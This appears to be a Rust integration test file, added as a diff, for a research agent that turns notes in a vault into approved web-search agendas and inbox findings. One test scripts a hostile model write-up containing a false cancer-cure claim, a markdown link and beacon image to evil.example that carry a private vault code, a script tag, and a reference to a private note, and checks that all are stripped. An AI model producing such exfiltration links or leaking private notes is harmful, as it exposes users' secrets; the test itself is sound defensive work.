@@ -1,0 +1,541 @@
+//! An agenda from its proposal to the inbox, over a vault in memory, a scripted model and a scripted web.
+
+use std::sync::Arc;
+
+use serde_json::{Value, json};
+use wellread_core::agenda::{Agenda, AgendaStatus, Finding, FindingStatus, TaskSource, TaskStatus};
+use wellread_core::gate::Verdict;
+use wellread_core::id::{AgendaId, TaskId};
+use wellread_core::inbox::{Edited, Inbox};
+use wellread_core::jobs::{Ended, Held, Jobs, Wish};
+use wellread_core::ports::{
+    Agendas as _, Findings as _, Model, ModelFailure, Queue as _, Records as _, WebFailure, WhichFindings,
+};
+use wellread_core::tools::Ctx;
+use wellread_core::{Kind, Result};
+use wellread_testkit::scripted_model::says;
+use wellread_testkit::scripted_web::{busy, found, paper, results};
+use wellread_testkit::talking::wait;
+use wellread_testkit::{ScriptedModel, ScriptedWeb, World};
+
+const VAULT: &str = "-- Bees.md\n# Bees\n\nA hive holds 40,000 bees in June. What kills varroa mites in winter?\n\nSee [[Oxalic acid]].\n\
+-- Wintering.md\n# Wintering\n\nA hive eats 15 kg of honey in winter. See [[Bees]].\n\
+-- Lonely meadow.md\nClover flowers here from May on.\n\
+-- Secret.md\n---\nprivate: true\n---\nThe hive code is 4711. What opens the shed?\n";
+
+const PAGE: &str = "https://bees.example/oxalic";
+const TEXT: &str = "# Oxalic acid against varroa\n\nOxalic acid is trickled between the frames once in winter. It kills varroa mites on \
+                    adult bees and leaves those in sealed brood alone. A colony without brood is treated at five degrees.\n";
+
+/// Everything that a test asks, over one world.
+struct Bench {
+    world: World,
+    web: Arc<ScriptedWeb>,
+    model: Option<Arc<ScriptedModel>>,
+}
+
+impl Bench {
+    fn new(web: ScriptedWeb) -> Self {
+        let mut world = World::new(VAULT);
+        world.index();
+        let web = Arc::new(web);
+        world.reach = Arc::new(web.reach());
+        Self { world, web, model: None }
+    }
+
+    fn with_model(web: ScriptedWeb, script: Vec<std::result::Result<wellread_core::ports::Reply, ModelFailure>>) -> Self {
+        let mut bench = Self::new(web);
+        let model = Arc::new(ScriptedModel::new(script));
+        bench.world.model = Some(model.clone() as Arc<dyn Model>);
+        bench.model = Some(model);
+        bench
+    }
+
+    fn ctx(&self) -> Ctx {
+        self.world.ctx()
+    }
+
+    fn trigger(&self, note: Option<&str>) -> Result<Agenda> {
+        let ctx = self.ctx();
+        wait(jobs(&ctx).trigger(Wish { note: note.map(str::to_owned), ..Wish::default() }))
+    }
+
+    fn approve(&self, agenda: &Agenda, blocked: &[TaskId]) -> Result<Agenda> {
+        jobs(&self.ctx()).approve(&agenda.id, blocked, None)
+    }
+
+    fn take(&self) -> Option<Held> {
+        jobs(&self.ctx()).take("worker").unwrap()
+    }
+
+    fn carry_out(&self, held: &Held) -> Ended {
+        let ctx = self.ctx();
+        wait(jobs(&ctx).carry_out(held)).unwrap()
+    }
+
+    /// Carries out whatever is due, and says how each ended.
+    fn work(&self) -> Vec<Ended> {
+        std::iter::from_fn(|| self.take()).map(|held| self.carry_out(&held)).collect()
+    }
+
+    fn agenda(&self, id: &AgendaId) -> Agenda {
+        self.world.agendas.agenda(id).unwrap().unwrap()
+    }
+
+    fn findings(&self) -> Vec<Finding> {
+        self.world.agendas.findings(&WhichFindings::default(), 100).unwrap()
+    }
+
+    fn inbox<T>(&self, act: impl FnOnce(&Inbox<'_>) -> T) -> T {
+        let ctx = self.ctx();
+        act(&Inbox { research: &ctx.research, vault: &ctx.vault })
+    }
+}
+
+fn jobs(ctx: &Ctx) -> Jobs<'_> {
+    Jobs { research: &ctx.research, around: ctx.around() }
+}
+
+/// A web that answers every query with this page.
+fn web() -> ScriptedWeb {
+    let result = found("Oxalic acid against varroa", PAGE, "Oxalic acid kills varroa mites.");
+    ScriptedWeb::named("search").otherwise(results([result])).page(PAGE, "Oxalic acid against varroa", TEXT)
+}
+
+fn tasks(tasks: &[(&str, &str)]) -> String {
+    let all: Vec<Value> = tasks
+        .iter()
+        .map(|(query, source)| {
+            json!({ "query": query, "source": source, "motivation": "The note asks for it.", "related_notes": ["Wintering.md", "Nobody.md", "Secret.md"] })
+        })
+        .collect();
+    json!({ "tasks": all }).to_string()
+}
+
+#[test]
+fn a_note_is_given_an_agenda_and_nothing_is_asked_before_it_is_approved() {
+    let bench = Bench::new(web());
+    let agenda = bench.trigger(Some("Bees")).unwrap();
+    assert_eq!((agenda.status, agenda.source_note_id.as_deref()), (AgendaStatus::Pending, Some("Bees.md")));
+    assert!((2..=5).contains(&agenda.tasks.len()), "{agenda:#?}");
+    assert!(agenda.tasks[0].motivation.starts_with("the note asks: “What kills varroa mites in winter?”"), "{agenda:#?}");
+    assert!(agenda.tasks.iter().any(|task| task.source == TaskSource::Arxiv), "both are asked");
+    assert!(bench.take().is_none() && bench.web.asked().is_empty() && bench.findings().is_empty());
+    assert_eq!(bench.agenda(&agenda.id), agenda, "it is kept");
+}
+
+#[test]
+fn the_vault_is_given_one_for_what_it_leaves_open_and_private_notes_are_not_in_it() {
+    let bench = Bench::new(web());
+    let agenda = bench.trigger(None).unwrap();
+    let told: Vec<(&str, &str)> =
+        agenda.tasks.iter().map(|task| (task.query.as_str(), task.motivation.as_str())).collect();
+    assert!(told.contains(&("Oxalic acid", "`Bees.md` links to `Oxalic acid`, which is not there")), "{told:?}");
+    assert!(told.iter().any(|(query, why)| *query == "Lonely meadow" && why.contains("stands alone")), "{told:?}");
+    assert!(!format!("{agenda:?}").contains("Secret"), "{agenda:#?}");
+}
+
+#[test]
+fn approved_tasks_are_carried_out_and_blocked_ones_never() {
+    let bench = Bench::new(web());
+    let agenda = bench.trigger(Some("Bees")).unwrap();
+    let blocked: Vec<TaskId> = agenda.tasks[1..].iter().map(|task| task.id.clone()).collect();
+    let approved = bench.approve(&agenda, &blocked).unwrap();
+    assert_eq!(approved.status, AgendaStatus::Approved);
+    assert_eq!(bench.work(), [Ended::Done]);
+    let asked: Vec<String> = bench.web.asked().into_iter().map(|query| query.text).collect();
+    assert_eq!(asked, [agenda.tasks[0].query.clone()]);
+    let done = bench.agenda(&agenda.id);
+    assert_eq!((done.status, done.findings), (AgendaStatus::Done, 1), "{done:#?}");
+    assert_eq!(done.message.as_deref(), Some("1 new finding in the inbox"));
+    assert_eq!(done.tasks[1].status, TaskStatus::Blocked);
+
+    let finding = bench.findings().remove(0);
+    assert_eq!((finding.url.as_str(), finding.status), (PAGE, FindingStatus::New));
+    assert!(finding.sentences.iter().all(|sentence| sentence.verdict == Verdict::Supported), "{finding:#?}");
+    assert!(finding.summary.contains("kills varroa mites on adult bees"), "{finding:#?}");
+    // What it rests on stands at its place in the kept page.
+    let kept = wellread_core::ports::Snapshots::kept(&*bench.world.records, finding.snapshot).unwrap().unwrap();
+    for entry in finding.evidence.iter().filter(|entry| entry.url == PAGE) {
+        assert_eq!(kept.get(entry.start..entry.end), Some(entry.quote.as_str()));
+    }
+    assert!((3..=5).contains(&finding.concepts.len()), "{:?}", finding.concepts);
+    assert!(finding.similarity > 0.0 && finding.similarity < 0.85, "{}", finding.similarity);
+    // Run again from its log, the task comes to the same.
+    let ctx = bench.ctx();
+    wait(ctx.research.replay(ctx.around(), &finding.run_id)).unwrap();
+}
+
+#[test]
+fn what_notes_or_findings_say_already_is_skipped_and_counted_and_no_failure() {
+    let mut bench = Bench::new(web());
+    bench.world.save("Oxalic treatment.md", TEXT);
+    bench.world.index();
+    let agenda = bench.trigger(Some("Bees")).unwrap();
+    bench.approve(&agenda, &[]).unwrap();
+    assert!(bench.work().iter().all(|ended| *ended == Ended::Done));
+    let done = bench.agenda(&agenda.id);
+    assert_eq!(done.status, AgendaStatus::Done);
+    assert_eq!(done.message.as_deref(), Some("0 new findings: your notes already cover these topics"));
+    assert!(bench.findings().is_empty());
+    // The threshold is a setting: with a higher one nothing is known.
+    bench.world.agenda.dedup_threshold = 1.1;
+    let agenda = bench.trigger(Some("Bees")).unwrap();
+    assert!(agenda.tasks.iter().all(|task| task.earlier.as_ref().is_some_and(|earlier| earlier.agenda_id == done.id)), "{agenda:#?}");
+    bench.approve(&agenda, &[]).unwrap();
+    bench.work();
+    assert_eq!(bench.findings().len(), 1, "the same page once, however many tasks find it");
+}
+
+#[test]
+fn without_an_embedding_model_runs_of_words_stand_in() {
+    let mut bench = Bench::new(web());
+    bench.world.save("Oxalic treatment.md", TEXT);
+    // No passage has a vector: what can't be compared by meaning is compared by words.
+    let search = wellread_core::search::Search { library: bench.world.search.library.clone(), embedder: Arc::new(Nobody) };
+    bench.world.search = Arc::new(search);
+    bench.world.search.library.update(false, &|_| {}).unwrap();
+    let agenda = bench.trigger(Some("Bees")).unwrap();
+    bench.approve(&agenda, &[]).unwrap();
+    bench.work();
+    assert_eq!(bench.agenda(&agenda.id).message.as_deref(), Some("0 new findings: your notes already cover these topics"));
+}
+
+/// An embedding model that is not there.
+struct Nobody;
+
+impl wellread_core::ports::Embedder for Nobody {
+    fn model(&self) -> Result<wellread_core::ports::EmbeddingModel> {
+        Err(wellread_core::Error::not_found("no model"))
+    }
+
+    fn embed(&self, _: &[&str], _: wellread_core::ports::Purpose) -> Result<Vec<Vec<f32>>> {
+        Err(wellread_core::Error::not_found("no model"))
+    }
+}
+
+#[test]
+fn a_search_that_fails_is_tried_again_and_then_fails_its_task_alone() {
+    let script = vec![says(&tasks(&[("varroa winter", "web"), ("oxalic brood", "web")]))];
+    let page = results([found("Oxalic acid", PAGE, "Oxalic acid kills.")]);
+    let web = ScriptedWeb::named("search")
+        .answers("varroa winter", Err(busy()))
+        .answers("oxalic brood", page)
+        .page(PAGE, "Oxalic acid", TEXT);
+    let mut bench = Bench::with_model(web, script);
+    let agenda = bench.trigger(Some("Bees")).unwrap();
+    bench.world.model = None;
+    bench.approve(&agenda, &[]).unwrap();
+    assert_eq!(bench.work(), [Ended::Later, Ended::Done]);
+    let waiting = bench.agenda(&agenda.id);
+    assert_eq!(waiting.tasks[0].status, TaskStatus::Queued);
+    assert!(waiting.tasks[0].message.as_deref().is_some_and(|said| said.contains("asked too often; it is tried again")));
+    let now = bench.world.vault.clock.now().timestamp();
+    let at = |seconds: i64| now + jiff::SignedDuration::from_secs(seconds);
+    // It is not due now, and the third try is the last.
+    assert!(bench.take().is_none());
+    for (second, ended) in [(10, Ended::Later), (100, Ended::Failed)] {
+        let taken = bench.world.agendas.take("worker", at(second), at(second + 60)).unwrap().unwrap();
+        let held = Held { lease: taken.lease, tries: taken.tries };
+        assert_eq!(bench.carry_out(&held), ended);
+    }
+    let done = bench.agenda(&agenda.id);
+    assert_eq!((done.status, done.tasks[0].status), (AgendaStatus::Done, TaskStatus::Failed));
+    assert_eq!(done.message.as_deref(), Some("1 new finding in the inbox; 1 of 2 tasks failed"));
+}
+
+#[test]
+fn a_refusal_is_not_tried_again_and_all_tasks_failing_fail_the_agenda() {
+    let failure = WebFailure::Blocked { message: "it takes us for a robot".to_owned() };
+    let bench = Bench::new(ScriptedWeb::named("search").otherwise(Err(failure)));
+    let agenda = bench.trigger(Some("Bees")).unwrap();
+    bench.approve(&agenda, &[]).unwrap();
+    assert!(bench.work().iter().all(|ended| *ended == Ended::Failed));
+    let done = bench.agenda(&agenda.id);
+    assert_eq!(done.status, AgendaStatus::Failed);
+    assert!(done.message.as_deref().is_some_and(|said| said.contains("it takes us for a robot")), "{done:#?}");
+}
+
+#[test]
+fn pages_that_cannot_be_read_are_passed_over_and_told() {
+    let other = "https://bees.example/gone";
+    let answer = results([found("Gone", other, "Gone."), found("Oxalic", PAGE, "Oxalic acid.")]);
+    let web = ScriptedWeb::named("search")
+        .otherwise(answer)
+        .page(PAGE, "Oxalic acid", TEXT)
+        .page_fails(other, WebFailure::Broken { message: "status 404".to_owned() });
+    let bench = Bench::new(web);
+    let agenda = bench.trigger(Some("Bees")).unwrap();
+    let blocked: Vec<TaskId> = agenda.tasks[1..].iter().map(|task| task.id.clone()).collect();
+    bench.approve(&agenda, &blocked).unwrap();
+    bench.work();
+    let task = bench.agenda(&agenda.id).tasks.remove(0);
+    let counts = task.counts.unwrap();
+    assert_eq!((counts.results, counts.fetched, counts.skipped, counts.findings), (2, 1, 1, 1));
+    assert_eq!(task.message.as_deref(), Some("1 of 2 results passed over: status 404"));
+}
+
+#[test]
+fn a_paper_is_a_finding_by_its_abstract_and_nothing_is_fetched() {
+    let abstract_text = "We trickle oxalic acid in winter and count varroa mites. Ninety percent of the varroa mites die in winter.";
+    let web = ScriptedWeb::named("arxiv").otherwise(results([paper("2301.00001v2", "Oxalic acid in winter", abstract_text)]));
+    let mut bench = Bench::new(web);
+    bench.world.agenda.sources = vec![TaskSource::Arxiv];
+    let agenda = bench.trigger(Some("Bees")).unwrap();
+    bench.approve(&agenda, &[]).unwrap();
+    bench.work();
+    let finding = bench.findings().remove(0);
+    assert_eq!((finding.url.as_str(), finding.source), ("https://arxiv.org/abs/2301.00001v2", TaskSource::Arxiv));
+    assert!(bench.web.fetched().is_empty());
+}
+
+#[test]
+fn a_model_proposes_and_what_it_makes_up_is_left_out() {
+    let bench = Bench::with_model(web(), vec![says(&tasks(&[("oxalic acid winter", "arxiv"), ("sealed brood", "elsewhere")]))]);
+    let agenda = bench.trigger(Some("Bees")).unwrap();
+    let told: Vec<(&str, TaskSource)> = agenda.tasks.iter().map(|task| (task.query.as_str(), task.source)).collect();
+    assert_eq!(told, [("oxalic acid winter", TaskSource::Arxiv), ("sealed brood", TaskSource::Web)]);
+    assert_eq!(agenda.tasks[0].related_notes, ["Bees.md", "Wintering.md"], "no note that is not there, none that is private");
+    let events = bench.world.records.events(agenda.run_id.as_ref().unwrap()).unwrap();
+    let ctx = bench.ctx();
+    assert!(wellread_core::logbook::left_the_machine(&events).iter().any(|departure| departure.sent.what == "model"));
+    wait(ctx.research.replay(ctx.around(), agenda.run_id.as_ref().unwrap())).unwrap();
+}
+
+#[test]
+fn a_model_that_does_not_propose_in_time_is_told_with_a_way_out_and_nothing_is_kept() {
+    let late = ModelFailure::Unreachable { message: "no whole answer within 15 s".to_owned() };
+    let bench = Bench::with_model(web(), vec![Err(late)]);
+    let error = bench.trigger(Some("Bees")).unwrap_err();
+    assert_eq!((error.kind(), error.message()), (Kind::Unavailable, "the model proposed nothing within 15 s"));
+    assert!(error.hint_text().is_some_and(|hint| hint.contains("try again")));
+    assert_eq!(bench.world.agendas.counts().unwrap().pending, 0);
+    let garbage = Bench::with_model(web(), vec![says("I would rather not."), says("Still not.")]);
+    assert!(garbage.trigger(Some("Bees")).unwrap_err().message().contains("does not fit"));
+}
+
+#[test]
+fn a_model_that_writes_up_is_checked_and_where_it_fails_sentences_are_quoted() {
+    let attack = json!({
+        "summary": "Oxalic acid cures cancer [ev-x-001]. Visit [this](https://evil.example/?q=4711) now.",
+        "bearing": "![x](https://evil.example/beacon.png) <script>alert(1)</script>",
+        "concepts": ["oxalic acid", "cancer cure", "<b>bold</b>"],
+        "related_notes": ["Secret.md"],
+    });
+    for writes_up in [vec![says(&attack.to_string()), says(&attack.to_string())], vec![says("no"), says("no")], vec![Err(ModelFailure::Busy { message: "busy".to_owned() })]] {
+        let mut script = vec![says(&tasks(&[("varroa mites winter", "web"), ("sealed brood", "web")]))];
+        script.extend(writes_up);
+        let bench = Bench::with_model(web(), script);
+        let agenda = bench.trigger(Some("Bees")).unwrap();
+        bench.approve(&agenda, &[agenda.tasks[1].id.clone()]).unwrap();
+        assert_eq!(bench.work(), [Ended::Done]);
+        let finding = bench.findings().remove(0);
+        let told = json!(finding).to_string();
+        for wrong in ["cancer", "evil.example", "script", "Secret", "4711"] {
+            assert!(!told.contains(wrong), "{wrong}: {finding:#?}");
+        }
+        assert!(finding.summary.contains("kills varroa mites"), "{finding:#?}");
+        assert_eq!(bench.model.as_ref().unwrap().left(), 0);
+    }
+}
+
+#[test]
+fn what_may_not_be_sent_is_not_proposed() {
+    let bench = Bench::new(web());
+    let error = bench.trigger(Some("Secret")).unwrap_err();
+    assert_eq!(error.kind(), Kind::Refused);
+    assert!(bench.trigger(Some("Nobody")).is_err() && bench.web.asked().is_empty());
+}
+
+#[test]
+fn with_nobody_to_ask_an_agenda_is_proposed_and_says_so_and_waits() {
+    let mut world = World::new(VAULT);
+    world.index();
+    world.reach = Arc::new(wellread_core::reach::Reach::nothing());
+    let ctx = world.ctx();
+    let agenda = wait(jobs(&ctx).trigger(Wish::default())).unwrap();
+    assert!(agenda.message.as_deref().is_some_and(|said| said.contains("no search service is chosen")));
+    let error = jobs(&ctx).approve(&agenda.id, &[], None).unwrap_err();
+    assert_eq!(error.kind(), Kind::NotSetUp);
+    assert_eq!(world.agendas.agenda(&agenda.id).unwrap().unwrap().status, AgendaStatus::Pending);
+}
+
+#[test]
+fn a_worker_that_lost_its_job_changes_nothing() {
+    let bench = Bench::new(web());
+    let agenda = bench.trigger(Some("Bees")).unwrap();
+    bench.approve(&agenda, &agenda.tasks[1..].iter().map(|task| task.id.clone()).collect::<Vec<_>>()).unwrap();
+    let asleep = bench.take().unwrap();
+    let later = bench.world.vault.clock.now().timestamp() + jiff::SignedDuration::from_mins(10);
+    let taken = bench.world.agendas.take("other", later, later + jiff::SignedDuration::from_mins(1)).unwrap().unwrap();
+    assert_eq!(bench.carry_out(&asleep), Ended::Lost);
+    assert!(bench.findings().is_empty() && bench.web.asked().is_empty());
+    assert_eq!(bench.carry_out(&Held { lease: taken.lease, tries: taken.tries }), Ended::Done);
+    assert_eq!(bench.findings().len(), 1);
+}
+
+#[test]
+fn a_cancelled_agenda_leaves_nothing_to_do() {
+    let bench = Bench::new(web());
+    let agenda = bench.trigger(Some("Bees")).unwrap();
+    bench.approve(&agenda, &[]).unwrap();
+    let held = bench.take().unwrap();
+    let cancelled = jobs(&bench.ctx()).cancel(&agenda.id).unwrap();
+    assert_eq!(cancelled.status, AgendaStatus::Cancelled);
+    assert_eq!(bench.carry_out(&held), Ended::Lost);
+    assert!(bench.take().is_none() && bench.web.asked().is_empty());
+}
+
+#[test]
+fn a_job_that_ends_its_worker_three_times_is_set_aside_and_shown() {
+    let bench = Bench::new(web());
+    let agenda = bench.trigger(Some("Bees")).unwrap();
+    bench.approve(&agenda, &agenda.tasks[1..].iter().map(|task| task.id.clone()).collect::<Vec<_>>()).unwrap();
+    let now = bench.world.vault.clock.now().timestamp();
+    let at = |minutes: i64| now - jiff::SignedDuration::from_mins(minutes);
+    // Three workers take it and are never heard of again; the fourth sets it aside.
+    for minutes in [40, 30, 20] {
+        bench.world.agendas.take("gone", at(minutes), at(minutes - 1)).unwrap().unwrap();
+    }
+    assert!(bench.take().is_none());
+    let agenda = bench.agenda(&agenda.id);
+    assert_eq!((agenda.status, agenda.tasks[0].status), (AgendaStatus::Failed, TaskStatus::Failed));
+    assert!(agenda.message.as_deref().is_some_and(|said| said.contains("set aside")), "{agenda:#?}");
+    assert_eq!(bench.world.agendas.counts().unwrap().set_aside, 1);
+}
+
+/// One finding in the inbox.
+fn with_finding() -> (Bench, Finding) {
+    let bench = Bench::new(web());
+    let agenda = bench.trigger(Some("Bees")).unwrap();
+    bench.approve(&agenda, &agenda.tasks[1..].iter().map(|task| task.id.clone()).collect::<Vec<_>>()).unwrap();
+    bench.work();
+    let finding = bench.findings().remove(0);
+    (bench, finding)
+}
+
+#[test]
+fn accepting_makes_one_note_with_source_reason_and_evidence() {
+    let (bench, finding) = with_finding();
+    let accepted = bench.inbox(|inbox| inbox.accept(&finding.id, &Edited::default())).unwrap();
+    let path = accepted.note_path.clone().unwrap();
+    assert_eq!(path, "Inbox/Oxalic acid against varroa.md");
+    let text = bench.world.text(&path);
+    for part in [
+        "tags:\n  - research-agent\n",
+        &format!("source: {PAGE}\n"),
+        "date: 2026-03-01\n",
+        "## Finding\n\n",
+        &format!("<!-- wellread: run {} -->", finding.run_id),
+        "the note asks: “What kills varroa mites in winter?”",
+        "> It kills varroa mites on adult bees",
+        "- [[Bees]]\n",
+    ] {
+        assert!(text.contains(part), "{part:?} is not in\n{text}");
+    }
+    // Once more is as good as once.
+    let again = bench.inbox(|inbox| inbox.accept(&finding.id, &Edited::default())).unwrap();
+    assert_eq!(again, accepted);
+    assert_eq!(bench.world.files.tree().keys().filter(|path| path.as_str().starts_with("Inbox/")).count(), 1);
+    assert_eq!(bench.inbox(|inbox| inbox.dismiss(&finding.id, false)).unwrap_err().kind(), Kind::Conflict);
+}
+
+#[test]
+fn an_acceptance_is_undone_with_its_note_unless_somebody_worked_on_it() {
+    let (bench, finding) = with_finding();
+    let path = bench.inbox(|inbox| inbox.accept(&finding.id, &Edited::default())).unwrap().note_path.unwrap();
+    let reopened = bench.inbox(|inbox| inbox.undo(&finding.id)).unwrap();
+    assert_eq!((reopened.status, reopened.note_path), (FindingStatus::New, None));
+    assert_eq!(bench.world.bytes(&path), None);
+    assert_eq!(bench.inbox(|inbox| inbox.undo(&finding.id)).unwrap_err().kind(), Kind::Conflict);
+    // Accepted again it is a note again; edited since, it stays.
+    let edited = Edited { title: Some("Mine: a/b".to_owned()), summary: Some("My own words.".to_owned()), folder: Some("Later".to_owned()) };
+    let path = bench.inbox(|inbox| inbox.accept(&finding.id, &edited)).unwrap().note_path.unwrap();
+    assert_eq!(path, "Later/Mine a b.md");
+    let text = bench.world.text(&path);
+    assert!(text.contains("# Mine: a/b\n") && text.contains("My own words.") && !text.contains("wellread: run"), "{text}");
+    bench.world.save(&path, &format!("{text}\nMore of mine.\n"));
+    assert!(bench.inbox(|inbox| inbox.undo(&finding.id)).is_err());
+    assert_eq!(bench.findings()[0].status, FindingStatus::Accepted);
+}
+
+#[test]
+fn a_name_that_is_taken_gets_a_number() {
+    let (bench, finding) = with_finding();
+    bench.world.save("Inbox/Oxalic acid against varroa.md", "Mine.\n");
+    let accepted = bench.inbox(|inbox| inbox.accept(&finding.id, &Edited::default())).unwrap();
+    assert_eq!(accepted.note_path.as_deref(), Some("Inbox/Oxalic acid against varroa 2.md"));
+    assert_eq!(bench.world.text("Inbox/Oxalic acid against varroa.md"), "Mine.\n");
+}
+
+#[test]
+fn an_acceptance_that_was_cut_off_is_gone_on_with_and_makes_no_second_note() {
+    let (bench, finding) = with_finding();
+    let accepted = bench.inbox(|inbox| inbox.accept(&finding.id, &Edited::default())).unwrap();
+    // As it was before the last step: the note is there, and the finding does not know.
+    bench
+        .world
+        .agendas
+        .decide(&finding.id, &mut |known| {
+            known.reopen()?;
+            known.accepting = Some(wellread_core::agenda::Accepting {
+                group: format!("finding-{}", known.id),
+                path: accepted.note_path.clone().unwrap(),
+                title: None,
+                summary: None,
+            });
+            Ok(None)
+        })
+        .unwrap();
+    assert_eq!(bench.inbox(|inbox| inbox.take_up()).unwrap(), 1);
+    let known = bench.findings().remove(0);
+    assert_eq!((known.status, known.note_path), (FindingStatus::Accepted, accepted.note_path));
+    assert_eq!(bench.world.files.tree().keys().filter(|path| path.as_str().starts_with("Inbox/")).count(), 1);
+}
+
+#[test]
+fn what_was_dismissed_stays_so_and_its_topic_is_proposed_no_more() {
+    let (bench, finding) = with_finding();
+    let dismissed = bench.inbox(|inbox| inbox.dismiss(&finding.id, true)).unwrap();
+    assert_eq!(dismissed.status, FindingStatus::Dismissed);
+    assert_eq!(bench.inbox(|inbox| inbox.accept(&finding.id, &Edited::default())).unwrap_err().kind(), Kind::Conflict);
+    assert_eq!(bench.inbox(|inbox| inbox.undo(&finding.id)).unwrap_err().kind(), Kind::Conflict);
+    let agenda = bench.trigger(Some("Bees")).unwrap();
+    assert!(agenda.tasks.iter().all(|task| task.query != finding.query), "{agenda:#?}");
+    let topics = bench.inbox(|inbox| inbox.suppressed()).unwrap().topics;
+    assert_eq!(topics.iter().map(|topic| topic.topic.as_str()).collect::<Vec<_>>(), [finding.query.as_str()]);
+    bench.inbox(|inbox| inbox.allow(&finding.query)).unwrap();
+    let agenda = bench.trigger(Some("Bees")).unwrap();
+    assert!(agenda.tasks.iter().any(|task| task.query == finding.query));
+}
+
+#[test]
+fn the_same_key_is_the_same_answer() {
+    let bench = Bench::new(web());
+    let ctx = bench.ctx();
+    let wish = || Wish { note: Some("Bees".to_owned()), key: Some("once".to_owned()), scheduled: false };
+    let one = wait(jobs(&ctx).trigger(wish())).unwrap();
+    assert_eq!(wait(jobs(&ctx).trigger(wish())).unwrap(), one);
+    let approved = jobs(&ctx).approve(&one.id, &[], Some("yes")).unwrap();
+    assert_eq!(jobs(&ctx).approve(&one.id, &[], Some("yes")).unwrap(), approved);
+    assert_eq!(jobs(&ctx).approve(&one.id, &[], Some("another")).unwrap_err().kind(), Kind::Conflict);
+    assert_eq!(jobs(&ctx).approve(&one.id, &[], None).unwrap_err().kind(), Kind::Conflict);
+}
+
+#[test]
+fn at_most_so_many_findings_are_made() {
+    let all: Vec<_> = (0..8).map(|number| found("Oxalic", &format!("https://bees.example/{number}"), "x")).collect();
+    let mut web = ScriptedWeb::named("search").otherwise(results(all));
+    for number in 0..8 {
+        let words: String = (0..40).map(|word| format!("word{number}x{word} ")).collect();
+        let text = format!("# Oxalic {number}\n\nIn winter varroa mites die of dose number {number}. {words}.\n");
+        web = web.page(&format!("https://bees.example/{number}"), "Oxalic", &text);
+    }
+    let mut bench = Bench::new(web);
+    bench.world.agenda.max_findings = 3;
+    bench.world.agenda.dedup_threshold = 0.999;
+    let agenda = bench.trigger(Some("Bees")).unwrap();
+    bench.approve(&agenda, &[]).unwrap();
+    bench.work();
+    assert_eq!((bench.findings().len(), bench.agenda(&agenda.id).findings), (3, 3));
+}
